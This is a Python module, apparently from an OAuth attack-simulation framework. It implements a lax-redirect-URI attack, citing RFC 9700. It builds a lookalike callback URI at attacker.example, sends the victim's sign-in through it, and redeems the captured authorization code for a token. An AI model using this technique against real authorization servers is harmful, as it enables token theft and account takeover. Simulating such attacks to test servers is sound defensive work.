"""Lax redirect URI: a link to the honest server has a redirect URI of the attacker's that resembles the client's."""

from typing import ClassVar
from urllib.parse import urlsplit

from simlib.attacks.base import BROWSER, FlowAttack, NotApplicable, Preparation, PreparationFailure, send
from simlib.attacks.oauth_requests import (
    build_authorization_request,
    make_candidates,
    make_form_request,
    make_proof_key,
    read_parameters,
    redeem_code,
)
from simlib.scenario.effects import Context, Flow, Reply


def build_lookalike(redirect_uri: str) -> str:
    """Build a URI at the attacker's host that begins like the client's."""
    parts = urlsplit(redirect_uri)
    if parts.netloc:
        return f"{parts.scheme}://{parts.netloc}.attacker.example{parts.path}"
    return f"{parts.scheme}://attacker.example/callback"


class LaxRedirectUri(FlowAttack):
    """PKCE does not protect: the attacker makes the request, and so has the verifier."""

    name: ClassVar[str] = "lax_redirect_uri"
    summary: ClassVar[str] = "the user signs in by a link whose redirect URI only begins like the client's"
    source: ClassVar[str] = "RFC 9700 sections 2.1 and 4.1"

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Have the victim sign in by the link, and redeem the code received."""
        if not self.assets.redirect_uri:
            yield from ()
            return NotApplicable("this client has no redirect URI")
        own_uri = build_lookalike(self.assets.redirect_uri)
        verifier, challenge = make_proof_key(ctx)
        answer = yield from send(
            BROWSER, make_form_request(step="authorize", **build_authorization_request(self.assets, own_uri, challenge))
        )
        location = answer.body.decode() if isinstance(answer, Reply) and answer.status == 200 else ""
        code = read_parameters(location).get("code", "")
        if not code:
            return PreparationFailure()
        redeemed = yield from redeem_code(self.assets, code, own_uri, verifier)
        return make_candidates(redeemed, "the token for the code")
